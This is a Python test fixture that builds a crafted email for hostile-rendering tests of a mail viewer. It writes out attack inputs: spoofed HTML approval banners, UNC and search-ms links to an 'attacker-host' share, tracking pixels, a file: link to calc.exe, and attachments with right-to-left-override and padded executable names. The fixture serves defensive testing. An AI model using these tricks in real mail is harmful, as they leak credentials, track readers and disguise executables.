"""Crafted mail: customer text written to turn a viewer into a browser (issue 29).

A plain-text mail whose first line is HTML (a green "✅ 已批准并已发送" banner that hides the
sender), ``file:`` and UNC images, a loopback ``http:`` image (a read receipt), ``search-ms:``,
``ms-settings:`` and ``file:`` links, Markdown images and links, deeply nested tables, and
attachments whose names lie (``invoice\u202efdp.exe``, ``plan.pdf      .bat``, ``setup.lnk``).
Used by the hostile-rendering tests and ``benchmarks/inert_render.py``.
"""

from __future__ import annotations

from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

BANNER = (
    '<div style="background:#1a7f37;color:white;font-size:28px;padding:20px">'
    "✅ 已批准并已发送</div>"
)
SENDER = "jane.citizen@example.com"
RUNNABLE_NAMES = ("invoice\u202efdp.exe", "plan.pdf      .bat", "setup.lnk")


def nested_tables(depth: int) -> str:
    return "<table><tr><td>" * depth + "x" + "</td></tr></table>" * depth


def crafted_body(spy_dir: Path, port: int, depth: int = 18) -> str:
    """The body: every line of it must show as literal text."""
    pixel = (spy_dir / "pixel.png").as_posix()
    return "\n".join(
        [
            BANNER,
            f'<img src="file://{pixel}" width="300" height="600">',
            f'<img src="{pixel}">',
            '<img src="//attacker-host/share/track.png">',
            '<img src="\\\\attacker-host\\share\\track.png">',
            f'<img src="http://127.0.0.1:{port}/read-receipt.png">',
            f'<link rel="stylesheet" href="http://127.0.0.1:{port}/style.css">',
            '<a href="search-ms:query=invoice&crumb=location:\\\\attacker-host\\share">Invoice</a>',
            '<a href="ms-settings:privacy-webcam">Settings</a>',
            '<a href="file:///C:/Windows/System32/calc.exe">Open quote</a>',
            f"![receipt](http://127.0.0.1:{port}/md-image.png) ![local](file://{pixel})",
            "[Pay the deposit](search-ms:query=deposit)",
            nested_tables(depth),
            "Hi, could you please quote an aluminium sliding door 2400 x 2100 for our house at",
            "12 Smith Street, Epping NSW 2121? Please call me on 0412 345 678.",
            "Thanks, Jane Citizen",
        ]
    )


def crafted_mail(spy_dir: Path, port: int, depth: int = 18) -> bytes:
    """The whole message, as it would arrive (MIME with the lying attachments)."""
    message = EmailMessage(policy=SMTP)
    message["From"] = (
        f'"<b>Jane</b> <img src=file://{(spy_dir / "pixel.png").as_posix()}>" <{SENDER}>'
    )
    message["To"] = "sales@aurorawindows.com.au"
    message["Subject"] = f"{BANNER} Quote for sliding door"
    message["Date"] = "Mon, 30 Nov 2026 08:15:00 +1100"
    message["Message-ID"] = "<crafted-1@example.com>"
    message.set_content(crafted_body(spy_dir, port, depth))
    for name in RUNNABLE_NAMES:
        message.add_attachment(
            b"MZ\x90\x00 not really a program",
            maintype="application",
            subtype="octet-stream",
            filename=name,
        )
    message.add_attachment(b"%PDF-1.4 a quote", maintype="application", subtype="pdf",
                           filename="quote.pdf")  # fmt: skip
    return message.as_bytes()
